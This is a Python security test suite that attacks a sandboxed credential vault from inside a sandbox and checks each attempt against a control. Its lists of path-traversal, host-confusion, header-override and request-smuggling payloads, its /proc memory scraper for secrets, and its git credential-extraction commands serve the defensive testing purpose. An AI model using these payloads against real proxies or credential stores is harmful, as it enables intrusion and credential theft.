"""Tries to get a key of the vault, or the use of it for something else, from inside a sandbox.

The program runs itself again in a network of its own, in which hosts behind TLS hear what they
are sent and say it back. In it a choir of its own runs, whose vault has a key for one of them.
"""
import sys; sys.path.insert(0, sys.path[0] + "/..")
import os

if "VAULT_WORLD" not in os.environ:
    os.environ["VAULT_WORLD"] = "1"
    os.execvp("unshare", ["unshare", "--net", "--mount", sys.executable, *sys.argv])

import lib
from lib import *
import base64, gzip, posixpath, secrets, shutil, signal, ssl, tempfile
import hosts
from hosts import gives_away, unquote

BANK, THIEF = "11.22.33.44", "11.22.33.55"
TOP = tempfile.mkdtemp(prefix="choir-vault-", dir="/var/tmp")
# The keys are nowhere in this file as they are looked for, and no task's text has one.
KEY, PASSWORD, DECOY = (f"{kind}&s3cret+that's~{secrets.token_hex(16)}".encode() for kind in ("key", "password", "decoy"))
KEYS = {"key": KEY, "password": PASSWORD}
world = hosts.Hosts([BANK, THIEF], {"bank.test": [BANK], "thief.test": [THIEF], "x.bank.test": [THIEF], "bank.test.thief.test": [THIEF]}, TOP)

# What the sandbox sends, one raw request after the other; it prints each whole answer in base64.
SENDER = r'''
import base64, json, os, socket, sys
host, port = os.environ["http_proxy"].split("//")[1].split(":")
for c in json.loads(base64.b64decode(sys.argv[1])):
    s = socket.create_connection((host, int(port))); s.settimeout(30)
    said = b""
    try:
        s.sendall(base64.b64decode(c["raw"]))
        while more := s.recv(65536):
            said += more
            s.settimeout(2)  # a connection that is kept open says no more
    except OSError as e:
        said += repr(e).encode()
    s.close()
    print(c["id"], base64.b64encode(said).decode())
'''


def gate(path, *headers, method="GET", host="key.choir.internal", body=b""):
    """Returns a request to the key gateway."""
    lines = [f"{method} http://{host}{path} HTTP/1.1", "Host: " + host, *headers, "Connection: close"] + ([f"Content-Length: {len(body)}"] if body else [])
    return "\r\n".join(lines).encode("latin1") + b"\r\n\r\n" + body


def send(cases):
    """Sends raw requests by their names as one task; returns what each was answered."""
    plan = json.dumps([{"id": i, "raw": base64.b64encode(raw).decode()} for i, raw in enumerate(cases.values())])
    result, out = sandbox("", argv=["python3", "-c", SENDER, base64.b64encode(plan.encode()).decode()])
    said = dict(line.split(" ", 1) for line in out.splitlines() if " " in line)
    return {name: base64.b64decode(said[str(i)]) if str(i) in said else b"nothing: " + out[-200:].encode() for i, name in enumerate(cases)}


def line(answer):
    """Returns the first line of an answer, and what it says last."""
    return answer[:40].split(b"\r\n")[0].decode("latin1") + " ... " + answer[-90:].decode("latin1")


def vault(*args, key=None):
    p = choir("vault", *args, stdin=key)
    assert p.returncode == 0, p.stderr
    return p.stdout


def body(answer):
    return answer.partition(b"\r\n\r\n")[2]


def told(answer):
    """Reports whether an answer gives a key away."""
    return any(gives_away(answer, key) for key in KEYS.values())


def carried():
    """Returns the requests that arrived with the key: (address, request)."""
    return [(h.address, r) for h in world.heard() for r in h.requests if told(r.path.encode() + (getattr(r, "headers", "").encode() + getattr(r, "body", b"")))]


def bound(address, r):
    """Reports whether a request is one that the key is bound to, however a server reads its path."""
    path = posixpath.normpath(unquote(unquote(r.path.split("?")[0])).replace("\\", "/").replace(";", "/;"))
    return address == BANK and r.host == "bank.test" and r.method in ("GET", "TRACE") and (path == "/api" or path.startswith("/api/")) and "verride" not in r.headers


# -- reading it ---------------------------------------------------------------------------------

# Looks for what looks like a key in every file, environment and memory that it can read. The
# pattern does not match itself.
SEARCH = r'''
import base64, os, re, sys
plain = rb"s3[c]ret.{0,3}that|AGE-SECRET-[K]EY-1"
coded = b"|".join(re.escape(base64.b64encode(b"\0" * i + b"&s3" + b"cret")[2 + (i > 1):-3]) for i in range(3))
what = re.compile(plain + b"|" + coded + b"|" + (b"s3" + b"cret").hex().encode())
def look(where, path, ranges=None):
    try:
        with open(path, "rb", buffering=0) as f:
            for start, size in ranges or [(0, 64 << 20)]:
                try:
                    if start: f.seek(start)
                    for m in what.finditer(f.read(min(size, 64 << 20)) or b""): print("FOUND", where, base64.b64encode(m[0]).decode(), flush=True)
                except (OSError, ValueError, OverflowError): pass
    except OSError: pass
def processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid(): continue
        for name in ("environ", "cmdline", "auxv"): look(f"/proc/{name}", f"/proc/{pid}/{name}")
        try: maps = [l.split() for l in open(f"/proc/{pid}/maps")]
        except OSError: continue
        ranges = [(int(a, 16), int(b, 16) - int(a, 16)) for a, b in (m[0].split("-") for m in maps if m[1].startswith("r"))]
        look("/proc/mem", f"/proc/{pid}/mem", [r for r in ranges if r[1] < 256 << 20])
        for fd in range(64): 
            try: os.path.isfile(f"/proc/{pid}/fd/{fd}") and look("/proc/fd", f"/proc/{pid}/fd/{fd}")
            except OSError: pass
def files():
    for top in sys.argv[2:]:
        for folder, inside, names in os.walk(top):
            inside[:] = [d for d in inside if os.path.join(folder, d) not in ("/proc", "/sys", "/dev", "/usr/share", "/usr/lib")]
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and not os.path.islink(path): look("file", path)
def environment():
    for name, value in os.environ.items():
        if what.search(value.encode()): print("FOUND environment", name)
for part in sys.argv[1].split(","): globals()[part]()
'''


def reading():
    """Looks in all files, environments and processes that a task can see."""
    planted = "key&s3'+'cret+that-is-planted"
    plant = f"export PLANTED='{planted}'; printf %s \"$PLANTED\" > $HOME/planted; python3 -c 'import os; held = os.environ.pop(\"PLANTED\"); print(flush=True); input()' < <(sleep 60) & sleep 1; "
    program = base64.b64encode(SEARCH.encode()).decode()
    run = lambda part: f"echo {program} | base64 -d > $HOME/search.py; python3 $HOME/search.py {part}"
    for promise, part, where in (("files", "files / /dev/shm", "file"), ("environment", "environment", "environment"), ("processes", "processes", "/proc/")):
        _, out = sandbox(run(part) + "; echo searched")
        attack("a key in " + promise, "FOUND" in out or "searched" not in out, out)
        _, out = sandbox((plant + run(part)).replace("s3'+'cret", "s3''cret"))
        control("a key in " + promise, "FOUND " + where in out, out)
    sandbox("rm -f $HOME/planted $HOME/search.py")


def doors():
    """Asks everything that answers in the sandbox for the vault, as the owner would."""
    path, origin = base() + "/vault", lib.ORIGIN
    ask = lambda target, method="GET", body=b"", host="choir": (f"{method} {target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        "X-Forwarded-For: 127.0.0.1\r\nAuthorization: Bearer owner\r\nX-Choir-Role: cli\r\nConnection: close\r\n\r\n").encode() + body
    rebind = json.dumps({"key": "a-key-of-the-thief", "use": "header", "host": "thief.test", "header": "Authorization"}).encode()
    cases = {"list": ask(path), "list at the origin": ask(f"http://{origin}{path}"), "list by the tunnel": b"CONNECT " + origin.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n" + ask(path),
             "list at the role's door": ask("/choir/v1" + path), "set": ask(path + "/bank", "PUT", rebind), "set at the origin": ask(f"http://{origin}{path}/bank", "PUT", rebind),
             "remove": ask(path + "/bank", "DELETE"), "rotate": ask("/api/vault/rotate", "POST"), "the gateway itself": gate(path), "the gateway's API": gate("/bank.test" + path, host="git.choir.internal"),
             "names": ask("/choir/names/vault"), "of the gateway's host": ask("http://key.choir.internal/choir.localhost" + path), "a tunnel to the gateway": b"CONNECT key.choir.internal:443 HTTP/1.1\r\nHost: key.choir.internal:443\r\n\r\n" + gate("/bank.test/api/x")}
    before = vault("list", "--json")
    for name, answer in send(cases).items():
        attack("the vault at the sandbox's doors", told(answer) or re_ok(answer) or vault("list", "--json") != before, f"{name}: {line(answer)}")
    status, answer = api("GET", path)
    control("the vault at the sandbox's doors", status == 200 and b'"bank"' in answer and b"bank.test" in answer, answer)
    for name, answer in {"list": answer, "set": api("PUT", path + "/spare", {"key": KEY.decode(), "use": "header", "host": "bank.test", "header": "X-Spare", "paths": ["/spare"]})[1],
                         "set with an error": api("PUT", path + "/spare", {"key": KEY.decode() + "\n", "use": "header", "host": "bank.test", "header": "X-Spare"})[1],
                         "set with an error elsewhere": api("PUT", path + "/spare", {"key": KEY.decode(), "use": KEY.decode(), "host": "bank.test", "header": "X-Spare"})[1],
                         "one entry": api("GET", path + "/bank")[1], "events": api("GET", base() + "/events?limit=1000")[1], "the computers": api("GET", "/api/computers")[1],
                         "remove": api("DELETE", path + "/spare")[1], "the CLI": vault("list") + vault("list", "--json"), "the doctor": choir("doctor", "--json").stdout}.items():
        attack("the API gives no key back", told(answer), f"{name}: {answer[:100]}")
    world.heard()
    control("the API gives no key back", gives_away(api("GET", base() + "/events?limit=1000")[1], DECOY) or gives_away(choir("log", "--json").stdout, DECOY))


def re_ok(answer):
    return answer[:12].startswith((b"HTTP/1.1 2", b"HTTP/1.0 2"))


# -- having a host say it -----------------------------------------------------------------------

SPECIAL = ["chunk by chunk", "compressed on the way", "in a trailer", "in the reason", "in a hint", "another protocol", "what is no answer", "if it may be compressed", "elsewhere"]
RANGES = ["Range: bytes=0-40", "Range: bytes=41-400"]


def asked_by(how):
    """Returns the path and headers of the request by which a host says the key in a form."""
    headers = {"if it may be compressed": ["Accept-Encoding: gzip"], "another protocol": ["Connection: Upgrade", "Upgrade: x"], "in a trailer": ["TE: trailers", "Connection: TE"]}.get(how, [])
    return "/api/echo?how=" + how.replace(" ", "+"), headers


def direct(path, headers):
    """Asks the bank from outside of the sandbox, with a key of no worth; returns the whole answer."""
    ctx = ssl.create_default_context(cafile=world.certificate)
    with ctx.wrap_socket(socket.create_connection((BANK, 443), 20), server_hostname="bank.test") as s:
        s.sendall("\r\n".join([f"GET {path} HTTP/1.1", "Host: bank.test", f"Authorization: Bearer {DECOY.decode()}", *headers, "Connection: close", "", ""]).encode())
        out = b""
        while more := s.recv(65536):
            out += more
    return out


def echoes():
    """Has the host say the key back in every form, and reads all of the answer."""
    ways = {how: asked_by(how) for how in [*hosts.FORMS, *SPECIAL]}
    parts = "/api/echo?how=a+range"
    said = send({how: gate("/bank.test" + path, *headers) for how, (path, headers) in ways.items()} | {part: gate("/bank.test" + parts, part) for part in RANGES} | {"TRACE": gate("/bank.test/api/echo?how=plain", method="TRACE")})
    arrived = [r.method + r.path for _, r in carried()]
    control("a host that says the key back", len(arrived) == len(said), f"the key did not arrive each time: {len(arrived)} of {len(said)}, {arrived}")
    said["two ranges"] = b"".join(body(said.pop(part)) for part in RANGES)
    control("a host that says the key back", gives_away(b"".join(body(direct(parts, [part])) for part in RANGES), DECOY), "two ranges")
    for how, answer in said.items():
        attack("a host that says the key back", told(answer), f"{how}: {line(answer)}")
        if how in ways:
            control("a host that says the key back", gives_away(direct(*ways[how]), DECOY), how + ": it is not said where nobody strips it")
    world.heard()
    # Many at once, so that what is held back for one stream is not given in another.
    _, out = sandbox("for i in $(seq 20); do curl -sS --raw 'http://key.choir.internal/bank.test/api/echo?how=chunk+by+chunk' & done; wait")
    attack("a host that says the key back", told(out.encode()) or "****" not in out, "twenty at once: " + out[-100:])


# -- using it for something else ----------------------------------------------------------------

def elsewhere():
    """Wants the key sent to other hosts, and in what is not its binding."""
    def tries(promise, cases, wide):
        said, got = send(cases), [(a, r) for a, r in carried() if not bound(a, r)]
        for name, answer in said.items():
            attack(promise, told(answer) or any(name_id(name) in r.path + r.headers for _, r in got), f"{name}: {line(answer)}")
        attack(promise, bool(got), [(a, r.method, r.path) for a, r in got])
        vault("set", "wide", *wide, "--header", "Authorization", key=KEY)
        send({"control": gate(*control_of[promise][0], **control_of[promise][1])})
        control(promise, any(not bound(a, r) for a, r in carried()))
        vault("remove", "wide")

    name_id = lambda name: "id-" + base64.b32encode(name.encode()).decode().strip("=")
    at = lambda name, path, *headers, **k: gate(path + ("&" if "?" in path else "?") + name_id(name), *headers, **k)
    control_of = {"a key for another host": (("/thief.test/api/x",), {}), "a key for another path": (("/bank.test/admin",), {}), "a key for another method": (("/bank.test/api/x",), {"method": "DELETE"})}
    cases = {}
    for host in ("thief.test", "x.bank.test", "bank.test.thief.test", "bank.test:8080", "bank.test:80", "bank.test@thief.test", "bank.test:443@thief.test", "thief.test%2fbank.test", "bank.test%00.thief.test",
                 "bank.test.", "bank.test,thief.test", "bank.test\\@thief.test", "//thief.test", "[bank.test]", BANK, "bank.test#@thief.test", "http://bank.test", "key.choir.internal/bank.test"):
        cases[host] = at(host, f"/{host}/api/x")
    for header in ("X-Forwarded-Host: thief.test", "Forwarded: host=thief.test", "X_Forwarded_Host: thief.test", "X-Host: thief.test", "Host: thief.test", "Location: https://thief.test", "Authorization: mine", "Connection: Authorization",
                   "Proxy-Authorization: mine", "X-Forwarded-Server: thief.test", "Destination: https://thief.test/x", "Referer: https://thief.test/"):
        cases[header] = at(header, "/bank.test/api/x", header)
    cases["a tunnel of the proxy"] = b"CONNECT thief.test:443 HTTP/1.1\r\nHost: bank.test:443\r\n\r\n"
    cases["TLS made by the proxy"] = b"GET https://bank.test/api/x HTTP/1.1\r\nHost: bank.test\r\nConnection: close\r\n\r\n"
    cases["in the clear"] = b"GET http://bank.test/api/x HTTP/1.1\r\nHost: bank.test\r\nConnection: close\r\n\r\n"
    cases["as git"] = gate("/bank.test/api/x/info/refs?service=git-upload-pack", host="git.choir.internal")
    tries("a key for another host", cases, ["--host", "thief.test"])
    cases = {}
    for path in ("/", "/admin", "/apis", "/API/x", "/api/../admin", "/api/./../admin", "/api/%2e%2e/admin", "/api/%2e./admin", "/api/..%2fadmin", "/api%2f..%2fadmin", "/api//../admin", "//api/../admin", "/api/..;/admin", "/api;/../../admin", "/api/..\\admin",
                 "/api\\..\\..\\admin", "/api/..%5cadmin", "/api/%252e%252e/admin", "/api/..%00/admin", "/api/..%c0%af../admin", "/admin?/api/", "/admin#/api/", "/admin%3f/api", "/%61pi/../admin", "/api/x/../../admin"):
        cases[path] = at(path, "/bank.test" + path)
    for header in ("X-Original-URL: /admin", "X-Rewrite-URL: /admin", "X_Original_Url: /admin", "X-Forwarded-Path: /admin", "X-Forwarded-Uri: /admin", "X-Forwarded-Prefix: /admin/", "X-Original-URI: /admin"):
        cases[header] = at(header, "/bank.test/api/x", header)
    inner = b"GET /admin HTTP/1.1\r\nHost: bank.test\r\n\r\n"
    cases["a request in the body"] = at("a request in the body", "/bank.test/api/x", body=inner)
    cases["one behind it"] = at("one behind it", "/bank.test/api/x") + inner
    cases["chunks and a length"] = at("chunks and a length", "/bank.test/api/x", "Transfer-Encoding: chunked", body=b"0\r\n\r\n" + inner)
    tries("a key for another path", cases, ["--host", "bank.test"])
    cases = {}
    for method in ("POST", "PUT", "DELETE", "PATCH", "HEAD", "get", "GET\t", "OPTIONS", "CONNECT", "PRI"):
        cases[method] = at(method, "/bank.test/api/x", method=method)
    for header in ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X_HTTP_METHOD_OVERRIDE: DELETE", "x-http-method-override: DELETE", "X-HTTP_Method-Override: DELETE"):
        cases[header] = at(header, "/bank.test/api/x", header)
    tries("a key for another method", cases, ["--host", "bank.test"])


def redirects():
    """Has the host send the client away, to another host of the policy."""
    run = "for how in elsewhere elsewhere+without+it; do curl -sSL --proxy-insecure -k --location-trusted --max-time 20 \"http://key.choir.internal/bank.test/api/go?how=$how\"; done; true"
    _, out = sandbox(run)
    got = carried()
    attack("a redirect to another host", told(out.encode()) or any(a == THIEF for a, _ in got), out)
    attack("a redirect to another host", len(got) != 2, f"the redirects were followed: {[(a, r.path) for a, r in got]}")
    sandbox("curl -sSLk --location-trusted -H 'Authorization: Bearer mine' --max-time 20 'https://bank.test/api/go?how=elsewhere+without+it'; true")
    control("a redirect to another host", any(h.address == THIEF and any("Bearer mine" in r.headers for r in h.requests) for h in world.heard()), "a client that has its key carries it along")


def another_computer():
    """Uses the key in a second computer, which was made of the first one."""
    p = choir("fork", "--name", "twin", "--json")
    assert p.returncode == 0, p.stderr
    twin = [c["id"] for c in json.load(open(lib.DATA + "/owner.json"))["computers"]][-1]
    task = {"version": 1, "kind": "run", "instruction": "attack", "commands": [{"argv": ["bash", "-c", "curl -sSi 'http://key.choir.internal/bank.test/api/twin?how=plain'"]}], "time_budget_s": 60, "verify_profile": {"mode": "none"}, "return": {"logs": True}}
    run = lambda of: choir("task", "-", "--json", "--computer", of, stdin=json.dumps(task).encode())
    out = run("twin").stdout
    attack("a key of another computer", told(out) or bool(carried()) or b"key.choir.internal" not in out, out[-200:])
    run(computer())
    control("a key of another computer", any("/api/twin" in r.path for _, r in carried()))
    theirs = f"/api/computers/{twin}/vault"
    steal = {"key": "a-key-of-the-thief", "use": "header", "host": "thief.test", "header": "Authorization"}
    before = vault("list", "--json")
    for name, (status, answer) in {"list": api("GET", theirs), "set": api("PUT", theirs + "/bank", steal), "remove": api("DELETE", theirs + "/bank")}.items():
        attack("an entry of another computer", b"bank.test" in answer or (status < 300 and name != "list") or vault("list", "--json") != before, f"{name}: {status} {answer[:120]}")
    steal["host"] = "bank.test"
    control("an entry of another computer", api("PUT", base() + "/vault/spare", steal)[0] == 200 and b'"spare"' in api("GET", base() + "/vault")[1] and api("DELETE", base() + "/vault/spare")[0] == 200)


def git():
    """Uses git's key for what it is not bound to, and has the host say it back."""
    for name in ("mine", "other"):
        subprocess.run(f"git init -q --bare -b main {name}.git && git -C {name}.git config http.receivepack true && git clone -q {name}.git w-{name} 2>/dev/null && cd w-{name} && echo hello >greeting && git add . "
                       "&& git -c user.name=t -c user.email=t@t commit -qm first && git push -q origin HEAD:main", shell=True, cwd=TOP, check=True)
    vault("set", "forge", "--host", "bank.test", "--path", "/mine.git", "--user", "me", "--method", "fetch", key=PASSWORD)
    p = choir("repo", "add", "https://bank.test/mine.git", "--credential", "forge")
    assert p.returncode == 0, p.stderr
    world.heard()
    g = "http://git.choir.internal/bank.test"
    commit = "cd workspace/mine && date +%N > now && git add . && git -c user.name=t -c user.email=t@t commit -qm more; "
    pushed = lambda: subprocess.run(["git", "-C", TOP + "/mine.git", "rev-list", "--all", "--count"], capture_output=True, text=True).stdout.strip() != "1"
    _, out = sandbox(commit + f"git push origin HEAD:main; git push {g}/mine.git HEAD:stolen; for u in {g}/other.git {g}/mine.git/../other.git http://git.choir.internal/thief.test/mine.git {g}/mine.git%2f..%2fother.git; do git ls-remote $u; done; "
                     f"curl -sSi {g}/mine.git/config; curl -sSi {g}/mine.git/HEAD; curl -sSi http://key.choir.internal/bank.test/mine.git/HEAD; env GIT_TRACE_CURL=1 GIT_CURL_VERBOSE=1 git fetch origin; git config --list --show-origin; cat .git/config; "
                     "printf 'protocol=https\\nhost=bank.test\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill; true")
    got = carried()
    attack("git's key for something else", pushed() or any(a != BANK or not r.path.startswith("/mine.git/") or "receive-pack" in r.path for a, r in got), [r.path for _, r in got])
    attack("git's key in the sandbox", told(out.encode()), out[-200:])
    world.echoes = True
    _, out = sandbox(f"for s in upload receive; do curl -sSi '{g}/mine.git/info/refs?service=git-'$s-pack; done; cd workspace/mine; GIT_TRACE_CURL=1 git fetch origin; true")
    world.echoes = False
    attack("git's key in the sandbox", told(out.encode()) or "no: " not in out, out[-200:])
    control("git's key in the sandbox", any("/mine.git/" in r.path for _, r in carried()), "the key arrived at the host that says it back")
    vault("set", "forge", "--host", "bank.test", "--path", "/mine.git", "--user", "me", key=PASSWORD)
    _, out = sandbox(commit + "git push origin HEAD:main")
    control("git's key for something else", pushed() and any("receive-pack" in r.path for _, r in carried()), out)


def taken_away():
    """Goes on with a key that is removed, or set anew, under a request."""
    slow = "curl -sS -N --max-time 25 'http://key.choir.internal/bank.test/api/slow?how=for+long' | wc -l"
    task = {"version": 1, "kind": "run", "instruction": "attack", "commands": [{"argv": ["bash", "-c", slow]}], "time_budget_s": 80, "verify_profile": {"mode": "none"}, "return": {"logs": True}}

    def under_way(act):
        p = subprocess.Popen([CHOIR, "task", "-", "--json", "--data", lib.DATA], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        p.stdin.write(json.dumps(task).encode()); p.stdin.close()
        assert eventually(lambda: world.open > 0, 30)
        act()
        _, took = within(60, lambda: p.wait(100))
        return took

    keep = ["bank", "--host", "bank.test", "--path", "/api", "--header", "Authorization", "--prefix", "Bearer ", "--method", "GET", "--method", "TRACE"]
    for name, act in {"set anew": lambda: vault("set", *keep, key=KEY), "removed": lambda: vault("remove", "bank")}.items():
        took = under_way(act)
        attack("a key that is taken away", took > 15, f"{name}: the request ended after {took:.1f} s")
    said = send({"after it": gate("/bank.test/api/after")})
    world.heard()
    attack("a key that is taken away", re_ok(said["after it"]), line(said["after it"]))
    vault("set", *keep, key=KEY)
    took = under_way(lambda: None)
    control("a key that is taken away", took > 15, f"it ends by itself after {took:.1f} s")
    world.heard()


# -- what is written down -----------------------------------------------------------------------

def written():
    """Looks for the keys in everything that choir wrote, and in the processes of the host."""
    export = TOP + "/export.choir"
    p = choir("export", export)
    assert p.returncode == 0, p.stderr
    log = choir("log", "--json").stdout
    report = TOP + "/report"
    choir("doctor", "--report", report)
    wanted = {name: hosts.forms(key) for name, key in {**KEYS, "decoy": DECOY}.items()}
    found = {name: [] for name in wanted}
    for folder, _, names in os.walk(lib.DATA):
        for path in [os.path.join(folder, name) for name in names] + [TOP + "/said"]:
            try:
                with open(path, "rb") as f:
                    text = f.read()
            except OSError:
                continue  # it is gone again, or a socket
            for who, texts in wanted.items():
                if any(t in text for t in texts):
                    found[who].append(path.removeprefix(lib.DATA))
    with gzip.open(report) as packed, open(report + ".tar", "wb") as plain:
        plain.write(packed.read())
    has = lambda path, who: any(t in open(path, "rb").read() for t in wanted[who])
    for name in KEYS:
        attack("a key in the data folder", bool(found[name]), f"{name}: {found[name]}")
        attack("a key in the log", any(t in log for t in wanted[name]), name)
        attack("a key in an export", has(export, name), name)
        attack("a key in a report", has(report + ".tar", name), name)
    for place in ("/journal/", "/store.sqlite", "/blobs/"):
        control("a key in the data folder", any(place in f for f in found["decoy"]), f"{place}: {found}")
    control("a key in the log", any(t in log for t in wanted["decoy"]))
    control("a key in an export", has(export, "decoy"))
    control("a key in a report", b"version" in open(report + ".tar", "rb").read())
    secret = subprocess.Popen([CHOIR, "vault", "set", "late", "--host", "bank.test", "--path", "/late", "--data", lib.DATA], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    secret.stdin.write(KEY); secret.stdin.flush()
    plain = subprocess.Popen(["sh", "-c", "read x", DECOY], stdin=subprocess.PIPE)
    # A process has no command line yet at the moment that it is made.
    eventually(lambda: all(open(f"/proc/{p.pid}/cmdline", "rb").read() for p in (secret, plain)), 20)
    shown = b""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    shown += f.read() + b"\n"
            except OSError:
                pass  # it has ended
    attack("a key in the host's list of processes", any(t in shown for name in KEYS for t in wanted[name]))
    control("a key in the host's list of processes", DECOY in shown and f"vault\0set\0late".encode() in shown)
    for p in (secret, plain):
        p.stdin.close(); p.wait(60)
    mode = [oct(os.stat(os.path.join(folder, name)).st_mode & 0o777) for folder, _, names in os.walk(lib.DATA + "/keys/vault") for name in names]
    nobody = lambda path: subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "cat", path], capture_output=True).returncode == 0
    attack("the vault's files for other users", any(nobody(f"{lib.DATA}/keys/vault/{name}") for name in ("vault.age", "vault.key")) or set(mode) != {"0o600"}, mode)
    control("the vault's files for other users", nobody(world.certificate))


lib.DATA = TOP + "/data"
os.chmod(TOP, 0o755)
os.mkdir(lib.DATA, 0o711)
with open(lib.DATA + "/choir.toml", "w") as f:
    f.write(lib.SETTINGS + "\n[listen]\naddress = '127.0.0.1:0'\n[egress]\nmode = 'allowlist'\n")
    for h in ("bank.test", "thief.test", "x.bank.test", "bank.test.thief.test"):
        for port in (80, 443, 8080):
            f.write(f"[[egress.allowlist]]\nhost = '{h}'\nport = {port}\n")
up = subprocess.Popen([CHOIR, "up", "--json", "--data", lib.DATA], stdout=subprocess.PIPE, stderr=open(TOP + "/said", "wb"), env={**os.environ, "SSL_CERT_FILE": world.certificate})
try:
    lib.ORIGIN = json.loads(up.stdout.readline())["address"].removeprefix("http://")
    vault("set", "bank", "--host", "bank.test", "--path", "/api", "--header", "Authorization", "--prefix", "Bearer ", "--method", "GET", "--method", "TRACE", key=KEY)
    sandbox(f"printf %s \"{DECOY.decode()}\" > decoy")
    for part in (reading, doors, echoes, elsewhere, redirects, taken_away, another_computer, git, written):
        part()
finally:
    up.send_signal(signal.SIGTERM)
    up.wait(60)
    shutil.rmtree(TOP, ignore_errors=True)
